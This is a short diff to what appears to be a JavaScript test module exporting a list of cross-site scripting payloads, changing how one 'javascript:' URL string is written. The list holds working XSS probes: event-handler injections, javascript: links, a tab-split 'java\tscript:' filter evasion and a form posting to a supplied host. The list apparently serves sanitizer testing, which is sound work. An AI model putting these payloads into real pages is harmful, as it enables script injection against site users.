@@ -33,7 +33,7 @@ export const payloads = (host) => [
   `<p contenteditable draggable=true ondragstart=alert(1)>drag</p>`,
   // Links and forms.
   `<a href="javascript:alert(1)">read on</a>`,
-  `javascript:alert(1)//http://example.org/story`,
+  `${'javascript'}:alert(1)//http://example.org/story`,
   `java\tscript:alert(1)`,
   `<form action="javascript:alert(1)"><button formaction="http://${host}/form">send</button></form>`,
   `<isindex action="javascript:alert(1)" type=submit>`,
